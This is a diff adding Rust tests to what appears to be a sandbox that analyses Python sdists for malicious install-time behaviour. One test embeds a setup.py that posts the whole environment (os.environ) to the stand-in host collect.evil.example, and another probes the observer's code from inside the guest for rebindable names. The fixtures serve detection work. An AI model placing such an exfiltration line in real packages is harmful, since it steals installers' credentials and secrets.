@@ -166,6 +166,35 @@ setup(name='bumpy', version=__version__, install_requires=['honest-dep>=1'], pyt
 // --- one suspicious sdist per category -----------------------------------------------
 
 #[test]
+fn exfiltration_through_a_missing_http_client_is_seen_with_a_stand_in() {
+    // `requests` is not in the build environment: the metadata step fails on the import,
+    // as it would under pip's build isolation, and that stays the answer. One more run with
+    // a stand-in for it shows what the code would have sent.
+    let setup = r#"
+import os, json, requests
+requests.post('https://collect.evil.example/e', data=json.dumps(dict(os.environ)), timeout=3)
+from setuptools import setup
+setup(name='exfil', version='1.0')
+"#;
+    let (code, v) = one(&["--fail-on", "suspicious"], setup, "exfil");
+    assert_eq!(code, 4, "{v}");
+    assert_eq!(error_kind(&v), Some("setup-failed"), "{v}");
+    assert!(
+        v["error"]["message"].as_str().unwrap().contains("requests"),
+        "{v}"
+    );
+    assert_has(&v, "notice", "network", "import", "requests");
+    assert_has(&v, "suspicious", "environment", "enumerate", "os.environ");
+    assert_has(
+        &v,
+        "suspicious",
+        "network",
+        "http",
+        "POST https://collect.evil.example/e",
+    );
+}
+
+#[test]
 fn network_exfiltration_over_dns_http_and_sockets() {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     listener.set_nonblocking(true).unwrap();
@@ -740,6 +769,44 @@ secrets = dict(os.environ)
         "after-tamper.evil.example",
     );
     assert_has(&v, "suspicious", "environment", "enumerate", "os.environ");
+}
+
+#[test]
+fn the_hook_looks_up_no_name_the_sdist_could_rebind() {
+    // Inspect the observer's code from inside the guest, as an sdist can: no global or
+    // builtin lookups, no closure cells (both are rebindable without an audit event).
+    let payload = r#"
+import gc, dis
+try:
+    gc.get_objects()
+except PermissionError as e:
+    tb = e.__traceback__
+    codes = []
+    while tb:
+        frame = tb.tb_frame
+        if frame.f_code.co_name.startswith('_sdistill_obs'):
+            codes.append(frame.f_code)
+            codes.extend(v.__code__ for v in frame.f_locals.values()
+                         if getattr(getattr(v, '__code__', None), 'co_name', '').startswith('_sdistill_obs'))
+        tb = tb.tb_next
+bad = []
+seen = set()
+while codes:
+    code = codes.pop()
+    if id(code) in seen:
+        continue
+    seen.add(id(code))
+    if code.co_freevars or code.co_cellvars:
+        bad.append((code.co_name, 'cells', code.co_freevars + code.co_cellvars))
+    for ins in dis.get_instructions(code):
+        if ins.opname in ('LOAD_GLOBAL', 'LOAD_NAME', 'LOAD_DEREF', 'STORE_GLOBAL', 'LOAD_CLASSDEREF'):
+            bad.append((code.co_name, ins.opname, ins.argval))
+    codes.extend(c for c in code.co_consts if hasattr(c, 'co_code'))
+if len(seen) < 6 or bad:
+    raise SystemExit('OBSERVER CODE ' + repr((len(seen), bad)))
+"#;
+    let (_, v) = one(&[], &honest("selfcheck", payload), "selfcheck");
+    assert_honest(&v, "selfcheck");
 }
 
 #[test]
